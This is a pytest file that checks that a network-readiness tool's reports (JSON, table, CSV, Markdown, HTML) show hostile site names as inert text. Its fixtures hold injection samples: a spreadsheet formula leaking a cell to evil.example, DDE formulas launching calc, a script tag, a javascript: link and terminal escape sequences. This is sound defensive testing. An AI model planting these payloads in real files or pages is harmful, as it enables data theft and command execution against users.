"""Hostile names in every report format: shown as data, never run as markup or formulas.

A site called ``Annex [/]`` crashed the table (rich took it for a closing tag); a name
starting with ``=`` became a live formula when the CSV was opened in a spreadsheet; a name
with ``<script>`` or ``|`` went raw into Markdown. Real parts: ``netready report`` on a real
inventory file and a real embedded store (the spool's SQLite), whose history is the
deterministic synthetic estate (reports/synthetic.py) plus one router record whose line
type carries a terminal escape sequence and a formula, as a compromised router could report.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from netready.reports import synthetic
from netready.reports.render import csv_cell, md_text, plain

from netready.cli.report import report
from netready.records import Record, now_ms
from netready.spool import Spool

DAY = 86_400_000

NAMES = {
    "Y81001": "Annex [/] [bold red]Surgery[/bold red]",
    "Y81002": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "Y81003": "<script>alert(1)</script> a|b *and* _em_ [x](javascript:alert(1))",
    "Y81004": "-2+3",
    "Y81005": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ICBS = {"Y81001": "QHM", "Y81002": "+QHM", "Y81003": "QHM", "Y81004": "-QWE", "Y81005": "@QWE"}
ROUTER_SAYS = "\x1b]0;pwned\x07\x1b[2J=cmd|' /C calc'!A0"  # OSC title, clear screen, formula


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, int]:
    d = tmp_path_factory.mktemp("hostile")
    now = now_ms()
    techs = {"Y81001": "adsl", "Y81002": "fttc", "Y81003": "fttp", "Y81004": "adsl",
             "Y81005": "fttc"}  # fmt: skip
    sites = [synthetic.SynthSite(o, ICBS[o], techs[o], 3.0 if o == "Y81004" else 1.0)
             for o in NAMES]  # fmt: skip
    with Spool(d / "spool.db", ship=False, embedded=True, max_age_s=10**9) as sp:
        sp.enqueue(synthetic.history(sites, now - 14 * DAY, now, rtt_every_s=3600))
        tags = {"site": "Y81002", "icb": "+QHM", "tech": "fttc", "detected_tech": ROUTER_SAYS}
        sp.enqueue([Record("dsl_line", tags, {"sync_down_kbps": 60000}, now - DAY)])
    inv = {
        "version": 1,
        "store": {"kind": "embedded"},
        "agent": {"spool_path": str(d / "spool.db")},
        "sites": [
            {"ods": o, "name": name, "type": "gp_practice", "icb": ICBS[o],
             "planned_clinics": 2, "link": {"tech": techs[o], "down_mbps": 40, "up_mbps": 10,
                                            "wlr": o == "Y81004"}}
            for o, name in NAMES.items()
        ],
    }  # fmt: skip
    p = d / "inv.yaml"
    p.write_text(yaml.safe_dump(inv, sort_keys=False))
    return p, now


def render(hostile: tuple[Path, int], fmt: str) -> str:
    inv, now = hostile
    r = CliRunner().invoke(
        report, ["--inventory", str(inv), "--now", str(now), "--format", fmt],
        env={"COLUMNS": "300"},
    )  # fmt: skip
    assert r.exit_code == 0, (r.output, r.exception)
    assert r.exception is None
    return r.stdout


def test_json_is_the_reference_form(hostile: tuple[Path, int]) -> None:
    doc = json.loads(render(hostile, "json"))
    sites = {s["ods"]: s for s in doc["sites"]}
    assert {o: s["name"] for o, s in sites.items()} == NAMES
    assert sites["Y81002"]["detected_tech"] == ROUTER_SAYS.lower()  # exact, JSON-escaped


def test_table_shows_names_as_written_and_no_escape_sequences(hostile: tuple[Path, int]) -> None:
    out = render(hostile, "table")
    assert "Annex [/] [bold red]Surgery[/bold red]" in out  # markup shown, not applied
    assert "\x1b" not in out and "\x07" not in out
    assert "�]0;pwned��[2j=cmd" in out  # the router's value, defanged but visible


def test_csv_cells_cannot_be_formulas(hostile: tuple[Path, int]) -> None:
    text = render(hostile, "csv")
    assert "\x1b" not in text
    rows = list(csv.reader(io.StringIO(text)))
    head, body = rows[0], rows[1:]
    assert len(body) == 5
    for row in body:
        assert len(row) == len(head)
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell.replace(",", "").rstrip("%"))  # only numbers may start so
    by = {r[0]: dict(zip(head, r, strict=True)) for r in body}
    assert by["Y81002"]["name"] == "'" + NAMES["Y81002"]
    assert by["Y81004"]["name"] == "'-2+3" and by["Y81004"]["icb"] == "'-QWE"
    assert by["Y81005"]["name"] == "'" + NAMES["Y81005"] and by["Y81002"]["icb"] == "'+QHM"
    assert by["Y81001"]["name"] == NAMES["Y81001"]  # nothing to neutralise: unchanged
    assert by["Y81002"]["detected_tech"].startswith("�]0;pwned")
    assert float(by["Y81001"]["rtt_ms"]) > 0  # numbers are still numbers


def test_markdown_escapes_html_pipes_and_links(hostile: tuple[Path, int]) -> None:
    md = render(hostile, "md")
    assert "<script>" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert "[x](javascript" not in md and r"\[x\](javascript:alert(1))" in md
    assert "\x1b" not in md
    lines = md.split("## Estate", 1)[1].strip().splitlines()
    table = [ln for ln in lines[: 2 + len(NAMES)] if ln.startswith("|")]
    cells = [len(re.split(r"(?<!\\)\|", ln)) for ln in table]
    assert len(table) == 2 + len(NAMES) and len(set(cells)) == 1, table  # no extra column
    assert r"Annex \[/\] \[bold red\]Surgery\[/bold red\]" in md


def test_html_escapes_every_value(hostile: tuple[Path, int]) -> None:
    page = render(hostile, "html")
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "\x1b" not in page and "\x07" not in page
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in page


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3.5, -3.5),
        ("-3.5", "-3.5"),
        ("-12%", "-12%"),
        ("1,234.5", "1,234.5"),
        (7, 7),
        (None, ""),
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-1+2", "'-1+2"),
        ("@A1", "'@A1"),
        ("\tx", "'\ufffdx"),
        ("\r=1", "'\ufffd=1"),
        ("plain", "plain"),
    ],
)
def test_csv_cell_follows_the_owasp_rule(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_md_and_plain_helpers() -> None:
    assert md_text("a|b\nc") == "a\\|b\ufffdc"
    assert md_text("x & <y>") == "x &amp; &lt;y&gt;"
    assert plain("a\x1b[31mb\u2028c") == "a\ufffd[31mb\ufffdc"


def test_every_format_shows_the_plain_grade_and_its_reason(hostile: tuple[Path, int]) -> None:
    """The grade per use (rubric.GRADES) that the JSON carries is the Grade column of the
    Markdown (with its reason, escaped as the other cells) and of the table (reason cut)."""
    doc = json.loads(render(hostile, "json"))
    graded = {s["ods"]: (s["grade"], s["grade_reason"]) for s in doc["sites"]}
    assert any(g is not None for g, _ in graded.values()), graded
    md = render(hostile, "md")
    lines = md.split("## Estate", 1)[1].strip().splitlines()
    head = [c.strip() for c in re.split(r"(?<!\\)\|", lines[0])[1:-1]]
    gi = head.index("grade")
    for ln in lines[2 : 2 + len(NAMES)]:
        cells = [c.strip() for c in re.split(r"(?<!\\)\|", ln)[1:-1]]
        g, why = graded[cells[0]]
        assert cells[gi] == md_text(f"{g or '—'}: {why}"), (cells[gi], g, why)
    table = render(hostile, "table")
    est = table.split("Verdicts:", 1)[0].splitlines()
    rows = {o: next(ln for ln in est if ln.lstrip("│ ").startswith(o)) for o in NAMES}
    for o, (g, why) in graded.items():
        assert re.search(rf"│ *{g or '—'} *│$", rows[o]), rows[o]  # the table: the grade alone
        if doc_verdict(doc, o) != "READY":  # its reason: the first under "Why not READY"
            flat = re.sub(r"\s+", " ", table)
            assert re.sub(r"\s+", " ", f"grade {g} - {why}") in flat, (g, why)


def doc_verdict(doc: dict, ods: str) -> str:
    return next(s["verdict"] for s in doc["sites"] if s["ods"] == ods)
